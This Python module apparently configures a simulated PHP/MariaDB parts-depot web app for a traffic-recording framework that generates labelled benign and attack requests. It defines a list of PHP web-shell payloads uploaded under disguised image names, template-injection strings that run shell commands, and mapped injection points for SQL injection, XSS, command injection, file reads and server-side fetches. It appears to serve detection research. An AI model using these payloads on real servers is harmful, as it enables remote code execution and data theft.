"""A parts depot on PHP-FPM behind nginx with MariaDB: pages told by the query (`?r=`), JSON under /rest/ with cookies or bearer tokens."""
import json
import shutil
from hashlib import md5
from pathlib import Path

from recorder.application import Application, Person
from recorder.attacks import Planting, Surface, Write
from recorder.databases import MariaDb
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside, returned

HERE = Path(__file__).parent
PEOPLE = [Person(login, f"pw-{login}", "") for login in "admin kim lou ida bo sam eve max zoe ned amy rex ina tom uma jon".split()]
PAGE = "/index.php?r="
LETTERS = ["Dear <?= $name ?>, about part <?= $part ?>: it is done.", "Hello <?= $name ?>!", "<?php if ($part): ?>Part <?= $part ?> is yours.<?php endif ?>"]


def digest(text):
    return md5(text.encode()).hexdigest()


def prepare(instance):
    shutil.copytree(HERE / "www", instance.folder / "www", dirs_exist_ok=True)
    for name in ("nginx.conf", "fpm.conf"):
        text = (HERE / name).read_text().replace("FOLDER", str(instance.folder)).replace("PORT", str(instance.port)).replace("SOCKET", str(instance.database.socket))
        (instance.folder / name).write_text(text)
    staff = ", ".join(f"('{p.login}', '{digest(p.password)}', '{digest('token' + p.login)}', 'staff', '{p.login.title()} O''Neill', '{p.login}@mail.example', '555 1000', '1 Quay', 'Cork', '')" for p in PEOPLE)
    seeds = f"INSERT INTO staff (login, pass, token, role, fullname, email, phone, street, city, about) VALUES {staff};\nINSERT INTO note (staff, text) SELECT id, 'Hello, <b>all</b>' FROM staff;"
    instance.database.sql((HERE / "schema.sql").read_text() + seeds, "app")


def server(instance):
    return [HERE / "serve.sh", instance.folder], {}


def jobs(instance):
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"find {instance.folder}/tmp -mmin +60 -name '*.gz' -delete"]


async def login(client, person):
    await client.submit(PAGE + "login", {"login": person.login, "pass": person.password})


async def guess(client, name, password, label):
    await client.submit(PAGE + "login", {"login": name, "pass": password}, label=label)


async def read(u):
    await u.client.visit(PAGE + u.rand.choice(["stock/list", "stock/list", "notes", "docs", "me", "stock/find"]))
    if await u.think(0.1, 0.6):
        await u.client.visit(f"{PAGE}stock/item&id={u.rand.randint(1, 80)}")


async def sort(u):
    await u.client.visit(f"{PAGE}stock/list&by={u.rand.choice(['id', 'title', 'stock desc', 'title desc', 'stock'])}")


async def find(u):
    await u.client.submit(PAGE + "stock/find", {"word": u.texts.query() if u.rand.random() < 0.15 else u.texts.word()})


async def order(u):
    part = u.rand.randint(1, 80)
    await u.client.submit(f"{PAGE}stock/item&id={part}", {"part": part, "count": u.rand.randint(1, 30), "remark": u.texts.prose()})


async def mark(u):
    await u.client.visit(PAGE + "stock/list")
    await u.client.visit(f"{PAGE}stock/mark&part={u.rand.randint(1, 80)}&note={u.texts.word()}")


async def note(u):
    await u.client.submit(PAGE + "notes", {"text": u.texts.markup() if u.rand.random() < 0.4 else u.texts.prose()})


async def me(u):
    fields = {"fullname": u.texts.name().replace("<", "("), "email": u.texts.mail(), "phone": u.texts.phone(), "street": u.texts.street(), "city": u.texts.city(), "about": u.rand.choice(["I like boats", "sailor & cook", "new here", "C#, SQL, select, where"])}
    names = u.rand.sample(sorted(fields), u.rand.randint(1, 6))
    await u.client.submit(PAGE + "me", {name: fields[name] for name in names})


async def rest(u):
    await u.client.visit(PAGE + "stock/find")
    part = u.rand.randint(1, 80)
    method, path, body = u.rand.choice([("POST", "filter", {"below": {"stock": u.rand.randint(1, 8)}, "starts": u.rand.choice(["B", "An", "", "Rope", "Lam"])}), ("GET", f"parts/{part}", None), ("GET", f"parts?after={part}", None),
                                        ("PUT", f"parts/{part}", {"stock": u.rand.randint(0, 9)}), ("POST", "name", {"fullname": u.texts.name().replace("<", "(")})])
    await u.client.call(method, "/rest/" + path, json=body)


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit(PAGE + "docs", {}, files={"upload": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"{PAGE}docs/get&file={name.replace(' ', '%20')}")
    if name == "notes.txt":
        await u.client.submit(PAGE + "docs", {"name": name})


async def link(u):
    await u.client.submit(PAGE + "docs", {"address": f"{u.sites.honest(False)}/article/{u.rand.randint(1, 99)}?ref=depot"})


async def letter(u):
    await u.client.submit(PAGE + "letter", {"text": u.rand.choice(LETTERS), "part": str(u.rand.randint(1, 80))})


async def export(u):
    if u.rand.random() < 0.4:
        return await u.client.visit(PAGE + "me/export")
    await u.client.call("GET", PAGE + "orders.csv")


async def pay(u):
    await u.client.visit(PAGE + "stock/list")
    await returned(u, PAGE + "bill/paid", {"reference": f"INV-{u.rand.randint(100, 999)}", "state": "paid", "signature": f"{u.rand.getrandbits(64):x}"})


async def single_sign_on(u):
    await u.client.visit(PAGE + "logout")
    await returned(u, "/index.php", {"r": "sso", "code": f"{u.rand.getrandbits(60):x}", "subject": u.person.login}, "get", "id")


async def newsletter(u):
    """A link on another site that changes something here."""
    await returned(u, "/index.php", {"r": "stock/mark", "part": u.rand.randint(1, 80), "note": "mail"}, "get", "news")


async def odd_upload(u):
    name, content = u.rand.choice([("list.php.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("setup.sh", b"#!/bin/sh\necho hello\n")])
    await u.client.submit(PAGE + "docs", {}, files={"upload": (name, "application/octet-stream", content)})


async def odd_question(u):
    await u.client.submit(PAGE + "stock/item&id=4", {"part": 4, "count": 1, "remark": "How is <script> escaped? Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"})


async def new_feature(u):
    await u.client.visit(f"{PAGE}stock/find&word=rope&view=grid&min={u.rand.randint(1, 9)}&tags[]=a&tags[]=b")


async def webhook(episode, rand):
    await outside(episode, rand).call("POST", "/rest/events", json={"reference": f"INV-{rand.randint(100, 999)}", "state": rand.choice(["paid", "settled", "refunded"]), "note": "O'Brien & Sons"}, headers={"X-Signature": f"{rand.getrandbits(64):x}"})


async def api_client(episode, rand):
    """Programs with bearer tokens and no cookie: a stock-taker, and a reader of pages."""
    person, client = rand.choice(episode.application.people[1:]), outside(episode, rand)
    answer = await client.call("POST", "/rest/token", json={"login": person.login, "pass": person.password})
    bearer = {"Authorization": "Bearer " + json.loads(answer.text)["token"]}
    for after in range(0, 24, 8):
        await client.call("GET", f"/rest/parts?after={after}", headers=bearer)
        await client.call("PUT", f"/rest/parts/{rand.randint(1, 80)}", json={"stock": rand.randint(0, 9)}, headers=bearer)


async def crawler(episode, rand):
    for path in ("/robots.txt", "/", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [b"<?php system($_GET['c']);", b"GIF89a<?php echo shell_exec($_GET['c'] ?? ''); ?>", b"<?=`{$_REQUEST['c']}`?>"]


async def shell(attack):
    name = f"pic{attack.rand.randrange(999)}.{attack.rand.choice(['php', 'php', 'gif.php'])}"
    await attack.client.submit(PAGE + "docs", {}, files={"upload": (name, attack.rand.choice(["image/gif", "application/octet-stream"]), attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/files/{name}"


FILTER = {"below": {"stock": 3}, "starts": "B"}
ATTACKS = Surface(
    dialect="mysql",
    secrets=Secrets("staff", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", PAGE + "stock/find", "word", "like", ")", "ntt"), Place("GET", PAGE + "stock/item", "id", "number", "", "ntt"), Place("GET", "/rest/parts/{}", "", "number", "", "ntt")],
    orders=[Place("GET", PAGE + "stock/list", "by", "order", "", "title,body")],
    stacked=[],
    updates=[Place("POST", PAGE + "me", "about", others={"city": "Cork"})],
    json=[Place("POST", "/rest/filter", "starts", "like", "", "nt", FILTER, "json"), Place("POST", "/rest/filter", "below.stock", "number", "", "nt", FILTER, "json")],
    logins=[Place("POST", PAGE + "login", "login", others={"pass": "x"})],
    guess=guess,
    reflected=[Place("GET", PAGE + "stock/find", "word")],
    plantings=[Planting(PAGE + "notes", "text", PAGE + "notes"), Planting(PAGE + "notes", "text", PAGE + "notes"), Planting(PAGE + "me", "fullname", PAGE + "notes")],
    writes=[Write(PAGE + "me", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "about": "none"}), Write(PAGE + "notes", {"text": "agreed {}"}), Write(PAGE + "stock/order", {"part": "7", "count": "9", "remark": "all {}"})],
    guarded_writes=[],
    changing_gets=[PAGE + "stock/mark&part=5&note=all{}", PAGE + "stock/mark&part={}&note=gone"],
    private=[PAGE + "me/export"],
    json_writes=[("/rest/name", '{"fullname":"Kim {}"}')],
    shell=shell,
    commands=[Place("POST", PAGE + "docs/size", "name", honest="notes.txt")],
    templates=[(Place("POST", PAGE + "letter", "text", others={"part": "5"}), ["<?= `COMMAND` ?>", "<?php system('COMMAND') ?>", "<?= $name ?><?php print(shell_exec(base64_decode('aWQ='))) ?>"])],
    files=[Place("GET", PAGE + "docs/get", "file", honest="notes.txt")],
    fetches=[Place("POST", PAGE + "docs/link", "address")],
)
APPLICATION = Application(
    name="depot", database=MariaDb, packages=("nginx-light", "php8.2-fpm", "php8.2-mysql", "mariadb-server"), prepare=prepare, server=server, ready=PAGE + "login", access_log="log/access.log",
    actions=[(7, read), (1, sort), (4, find), (3, order), (1, mark), (3, note), (2, me), (4, rest), (1, upload), (1, link), (1, letter), (1, export), (1, pay), (1, single_sign_on)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)],
    login=login, people=PEOPLE, pages=[PAGE + "login", PAGE + "stock/list", PAGE + "stock/find", PAGE + "notes"], attacks=ATTACKS, jobs=jobs,
)
